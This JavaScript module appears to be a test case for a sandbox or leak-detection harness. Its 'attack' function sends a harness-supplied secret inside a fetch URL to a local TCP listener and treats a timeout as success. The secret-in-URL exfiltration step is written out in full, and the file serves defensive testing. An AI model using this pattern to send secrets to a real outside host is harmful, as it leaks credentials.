// Global fetch (undici) with the secret in the URL.
export const meta = { kind: 'network', evidence: 'tcp' };
export default async function attack(ctx) {
  const controller = new AbortController();
  const timer = setTimeout(() => controller.abort(), 400);
  try {
    await fetch(`http://127.0.0.1:${ctx.tcpPort}/${ctx.secret}`, { signal: controller.signal });
    return 'sent';
  } catch (error) {
    if (error.name === 'AbortError') return 'sent'; // the listener never answers
    throw error.cause ?? error;
  } finally {
    clearTimeout(timer);
  }
}
